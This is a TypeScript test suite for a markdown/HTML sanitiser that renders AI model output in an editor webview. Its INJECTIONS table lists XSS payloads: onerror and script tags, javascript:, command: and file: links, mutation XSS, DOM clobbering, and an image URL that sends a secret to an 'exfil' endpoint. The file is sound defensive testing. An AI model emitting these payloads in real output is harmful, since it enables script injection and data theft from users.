import * as assert from 'node:assert/strict';
import { doc, render } from './render-dom';
import { sanitizeHtml, safeLinkUrl } from '../../webview-ui/src/render/sanitize';
import { StreamingMarkdownRenderer } from '../../webview-ui/src/render/streamingRenderer';


function renderStreamed(markdown: string): HTMLElement {
  const el = doc.createElement('div');
  const renderer = new StreamingMarkdownRenderer(el, { document: doc, scheduleFrame: () => {} });
  for (let at = 0; at < markdown.length; at += 3) {
    renderer.append(markdown.slice(at, at + 3));
    renderer.flush();
  }
  renderer.finish();
  return el;
}

const DANGEROUS_TAGS = 'img, script, iframe, object, embed, form, input, svg, math, style, link, meta, base, video, audio, source, picture, frame, textarea, select, button';
const URL_ATTRS = ['src', 'srcset', 'href', 'background', 'poster', 'xlink:href', 'action', 'formaction', 'style'];

/** Everything a rendered answer must never contain. */
function assertInert(el: HTMLElement): void {
  const bad = Array.from(el.querySelectorAll(DANGEROUS_TAGS)).filter((e) => !e.closest('.ml-code-toolbar'));
  assert.deepEqual(bad.map((e) => e.outerHTML), [], 'no dangerous elements');
  for (const node of Array.from(el.querySelectorAll('*'))) {
    for (const attr of Array.from(node.attributes)) {
      assert.ok(!/^on/i.test(attr.name), `event handler attribute ${attr.name} on <${node.localName}>`);
      assert.ok(!URL_ATTRS.includes(attr.name.toLowerCase()), `${attr.name}= on <${node.localName}>`);
    }
  }
  for (const link of Array.from(el.querySelectorAll('[data-href]'))) {
    assert.match(link.getAttribute('data-href') ?? '', /^https?:\/\//, 'data-href is http(s)');
  }
}

const INJECTIONS: Record<string, string> = {
  'img onerror': '<img src=x onerror=alert(1)>',
  script: '<script>alert(1)</script>',
  'javascript: link': '[x](javascript:alert(1))',
  'command: link': '[x](command:workbench.action.terminal.new)',
  'vscode: link': '[x](vscode://ms-vscode.remote/open)',
  'data: link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'file: link': '[x](file:///etc/passwd)',
  'exfil image': '![](http://127.0.0.1:9/exfil?d=secret)',
  'raw command: anchor': '<a href="command:foo">run</a>',
  iframe: '<iframe src="https://evil.example"></iframe>',
  'svg onload': '<svg onload=alert(1)><circle r=4 /></svg>',
  style: '<style>body{display:none}</style>',
  'anchor onclick': '<a href="https://ok.example" onclick="alert(1)">click</a>',
  autolink: '<https://auto.example/path> and www.bare.example',
  'srcset and friends': '<img srcset="http://a.example/x.png 2x"><video poster="http://a.example/p.png" src="http://a.example/v.mp4"><source src="http://a.example/s.mp4"></video><audio src="http://a.example/a.mp3"></audio><picture><source srcset="http://a.example/s.png"></picture>',
  'head elements': '<link rel="stylesheet" href="http://a.example/x.css"><meta http-equiv="refresh" content="0;url=http://a.example"><base href="http://a.example/">',
  'background and style': '<table background="http://a.example/bg.png"><tr><td style="background:url(http://a.example/x)">cell</td></tr></table>',
  'svg xlink': '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a><image xlink:href="http://a.example/i.png"/></svg>',
  'math': '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  'form and input': '<form action="http://a.example"><input name="q" formaction="http://a.example"><button>go</button></form>',
  'object and embed': '<object data="http://a.example/x.swf"></object><embed src="http://a.example/y.swf">',
  'entity-obfuscated javascript': '<a href="jav&#x09;ascript:alert(1)">x</a> [y](JaVaScRiPt:alert(1))',
  'data image': '![pixel](data:image/png;base64,iVBORw0KGgo=)',
  'image inside a link': '[![logo](http://127.0.0.1:9/logo.png)](https://ok.example)',
  'mutation xss': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'dom clobbering': '<a id="cookie" name="body">x</a><form name="getElementById"></form>',
};

describe('render sanitiser: injections in model output', () => {
  for (const [name, markdown] of Object.entries(INJECTIONS)) {
    it(`neutralises ${name}`, () => {
      assertInert(render(markdown));
      assertInert(render(`Some intro text.\n\n${markdown}\n\nAnd after.`));
      assertInert(renderStreamed(`- item\n\n  ${markdown}\n\n> ${markdown}\n`));
    });
  }

  it('drops script, style and iframe content entirely', () => {
    const el = render('<script>alert(1)</script><style>body{}</style><iframe src="x">inside</iframe>ok');
    assert.doesNotMatch(el.textContent ?? '', /alert|body\{\}|inside/);
  });

  it('keeps no id or name that could clobber globals', () => {
    const el = render(INJECTIONS['dom clobbering']);
    assert.equal(el.querySelectorAll('[id], [name]').length, 0);
  });

  it('fragments are built in an inert document, not the live one', () => {
    const fragment = sanitizeHtml('<p>hi <img src="http://a.example/x.png" alt="x"></p>', doc);
    assert.notEqual(fragment.ownerDocument, doc);
    assert.equal(fragment.querySelectorAll('img').length, 0);
  });
});

describe('render sanitiser: link policy', () => {
  it('turns http(s) links into link-like elements without a navigation target', () => {
    const el = render('[docs](https://example.com/docs?q=1 "Docs")');
    const link = el.querySelector('a');
    assert.ok(link);
    assert.equal(link.getAttribute('data-href'), 'https://example.com/docs?q=1');
    assert.equal(link.hasAttribute('href'), false);
    assert.equal(link.getAttribute('title'), 'https://example.com/docs?q=1');
    assert.equal(link.getAttribute('role'), 'link');
    assert.equal(link.getAttribute('tabindex'), '0');
    assert.equal(link.textContent, 'docs');
  });

  it('keeps http(s) autolinks', () => {
    const el = render('<https://auto.example/p> www.bare.example');
    const hrefs = Array.from(el.querySelectorAll('a')).map((a) => a.getAttribute('data-href'));
    assert.deepEqual(hrefs, ['https://auto.example/p', 'http://www.bare.example/']);
  });

  // The host opens only http(s) links, so anything else clickable would do nothing.
  it('renders mailto links, autolinked addresses and raw mailto anchors as plain text', () => {
    const el = render('Write to dev@example.com, [the team](mailto:team@example.com) or <a href="mailto:x@example.com">x</a>.');
    assert.equal(el.querySelectorAll('a, [data-href]').length, 0);
    assert.equal(el.textContent?.trim(), 'Write to dev@example.com, the team or x.');
  });

  for (const url of ['javascript:alert(1)', 'command:workbench.action.terminal.new', 'vscode://x/y', 'data:text/html,x', 'file:///etc/passwd', 'relative/path', '#frag']) {
    it(`makes a ${url.split(':')[0]} link plain text with its label`, () => {
      const el = render(`before [the **label**](${url}) after`);
      assert.equal(el.querySelectorAll('a').length, 0);
      assert.equal(el.querySelector('p')?.innerHTML, 'before the <strong>label</strong> after');
    });
  }

  it('makes a raw <a href="command:…"> plain text', () => {
    const el = render('<a href="command:foo">run it</a>');
    assert.equal(el.querySelectorAll('a').length, 0);
    assert.match(el.textContent ?? '', /run it/);
  });

  it('safeLinkUrl accepts only http and https', () => {
    assert.equal(safeLinkUrl('https://a.example'), 'https://a.example/');
    assert.equal(safeLinkUrl('http://a.example/x'), 'http://a.example/x');
    for (const bad of ['mailto:x@y.z', 'javascript:1', 'command:x', 'vscode:x', 'file:///x', 'data:x', 'http://', '', null, undefined]) {
      assert.equal(safeLinkUrl(bad), null, String(bad));
    }
  });
});

describe('render sanitiser: image policy', () => {
  it('replaces a remote image with a click-to-open link; the URL is only in data-href', () => {
    const exfil = 'http://127.0.0.1:9/exfil?d=secret';
    const el = render(`![chart](${exfil})`);
    assertInert(el);
    const link = el.querySelector('a.ml-image-link');
    assert.ok(link);
    assert.equal(link.getAttribute('data-href'), exfil);
    assert.equal(link.textContent, ' chart (image from 127.0.0.1:9, not loaded)');
    // The URL appears in no other attribute (title is the same URL on the same element).
    const withUrl = Array.from(el.querySelectorAll('*')).filter((e) => Array.from(e.attributes).some((a) => a.value.includes('exfil')));
    assert.deepEqual(withUrl, [link]);
    assert.doesNotMatch(el.textContent ?? '', /exfil/);
  });

  it('describes an image without alt text', () => {
    const el = render('![](https://img.example/a.png)');
    assert.equal(el.querySelector('a.ml-image-link')?.textContent, ' image (image from img.example, not loaded)');
  });

  it('turns raw HTML images into the same link', () => {
    const el = render('<img src="https://img.example/b.png" alt="diagram" srcset="https://img.example/b2.png 2x">');
    assertInert(el);
    assert.equal(el.querySelector('a.ml-image-link')?.getAttribute('data-href'), 'https://img.example/b.png');
  });

  it('shows a non-http image as text only', () => {
    for (const src of ['data:image/png;base64,iVBORw0KGgo=', 'file:///tmp/x.png', 'javascript:alert(1)', 'x.png']) {
      const el = render(`![alt text](${src})`);
      assert.equal(el.querySelectorAll('a, img').length, 0, src);
      assert.equal(el.textContent?.trim(), '[image: alt text]', src);
    }
  });

  it('an image inside a link becomes part of that link’s label', () => {
    const el = render('[![logo](http://127.0.0.1:9/logo.png)](https://ok.example)');
    const links = el.querySelectorAll('a');
    assert.equal(links.length, 1);
    assert.equal(links[0].getAttribute('data-href'), 'https://ok.example/');
    assert.equal(links[0].textContent, '[image: logo]');
  });
});
